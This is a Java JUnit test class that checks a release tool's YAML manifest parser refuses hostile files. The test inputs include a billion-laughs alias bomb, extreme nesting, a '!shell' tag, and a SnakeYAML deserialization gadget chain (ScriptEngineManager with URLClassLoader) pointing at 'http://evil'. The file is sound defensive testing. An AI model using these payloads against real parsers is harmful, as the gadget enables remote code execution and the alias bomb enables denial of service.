package io.nixship.manifest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.nixship.NixshipException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * Manifests come from the repository being released, so a pull request can put anything in them.
 * Each hostile file is refused with a one-line error naming the file (and line where there is one).
 * The class timeout only guards against a hang; no test asserts how fast anything is.
 */
@Timeout(60)
class HostileYamlTest {
    private static final ImageReference TARGET =
            ImageReference.parse("ghcr.io/acme/shop:2.0.0@sha256:" + "b".repeat(64));

    @Test
    void billionLaughsAliasesAreRefused() {
        StringBuilder yaml =
                new StringBuilder(
                        "a0: &a0 [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]\n");
        for (int level = 1; level < 10; level++) {
            yaml.append("a").append(level).append(": &a").append(level).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ", ").append("*a").append(level - 1);
            }
            yaml.append("]\n");
        }

        assertRefused(yaml.toString(), "laughs.yaml:", "aliases");
    }

    @Test
    void aliasesBelowTheLimitAreFollowedOnceNotExpanded() {
        StringBuilder yaml =
                new StringBuilder(
                        "kind: Pod\nspec:\n  containers:\n  - &c0 {name: a, image: ghcr.io/acme/shop:1.0.0}\n");
        yaml.append("x0: &x0 [*c0, *c0, *c0, *c0, *c0, *c0, *c0]\n");
        for (int level = 1; level < 7; level++) {
            yaml.append("x").append(level).append(": &x").append(level).append(" [");
            for (int i = 0; i < 7; i++) {
                yaml.append(i == 0 ? "" : ", ").append("*x").append(level - 1);
            }
            yaml.append("]\n");
        }

        FileEdit edit =
                new ManifestEditor()
                        .edit(
                                Path.of("fan-out.yaml"),
                                bytes(yaml.toString()),
                                ManifestKind.HELM_VALUES,
                                TARGET,
                                PinStyle.TAG);

        assertThat(edit.changes()).hasSize(1);
    }

    @Test
    void deepFlowNestingIsRefused() {
        assertRefused(
                "a: " + "[".repeat(5000) + "]".repeat(5000) + "\n", "deep.yaml:", "Nesting Depth");
    }

    @Test
    void deepBlockNestingIsRefused() {
        StringBuilder yaml = new StringBuilder();
        for (int depth = 0; depth < 200; depth++) {
            yaml.append("  ".repeat(depth)).append("k").append(depth).append(":\n");
        }
        assertRefused(yaml + "  ".repeat(200) + "leaf\n", "deep.yaml:", "Nesting Depth");
    }

    @Test
    void duplicateKeysAreRefusedWithTheirLine() {
        assertRefused(
                "kind: Pod\nspec:\n  containers: []\nkind: Deployment\n",
                "dup.yaml:4:",
                "duplicate key 'kind'");
    }

    @Test
    void javaTypeTagsAreRefused() {
        assertRefused(
                "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil\"]]]]\n",
                "tags.yaml:",
                "tag");
    }

    @Test
    void localTagsAreRefused() {
        assertRefused(
                "image: !shell ghcr.io/acme/shop:1.0.0\n",
                "tags.yaml:1:",
                "YAML tag '!shell' is not allowed");
    }

    @Test
    void filesBeyondTheSizeLimitAreRefused() {
        String huge = "# " + "x".repeat(YamlDocument.MAX_CODE_POINTS) + "\n";
        assertRefused(huge, "huge.yaml:", "larger than");
    }

    @Test
    void invalidUtf8IsRefused() {
        byte[] latin1 = "image: caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);
        assertThatThrownBy(() -> YamlDocument.parse("latin1.yaml", latin1))
                .isInstanceOf(NixshipException.class)
                .hasMessage("latin1.yaml: not valid UTF-8; manifests must be UTF-8 encoded");
    }

    @Test
    void unparseableYamlNamesFileAndLine() {
        assertThatThrownBy(() -> YamlDocument.parse("broken.yaml", bytes("a: 1\nb: [1, 2\nc: d\n")))
                .isInstanceOfSatisfying(
                        NixshipException.class,
                        e -> {
                            assertThat(e.exitCode()).isEqualTo(NixshipException.USAGE);
                            assertThat(e.getMessage())
                                    .matches("broken\\.yaml:\\d+: invalid YAML: [^\\n]+")
                                    .endsWith(
                                            "; fix it, or leave the file out of the manifests"
                                                    + " paths")
                                    .doesNotContain("\n");
                        });
    }

    private static void assertRefused(String yaml, String prefix, String reason) {
        assertThatThrownBy(
                        () ->
                                new ManifestLocator()
                                        .locate(
                                                prefix.substring(0, prefix.indexOf(':')),
                                                bytes(yaml),
                                                ManifestKind.KUBERNETES,
                                                TARGET))
                .isInstanceOf(NixshipException.class)
                .hasMessageStartingWith(prefix)
                .hasMessageContaining(reason)
                .satisfies(e -> assertThat(e.getMessage()).doesNotContain("\n"));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
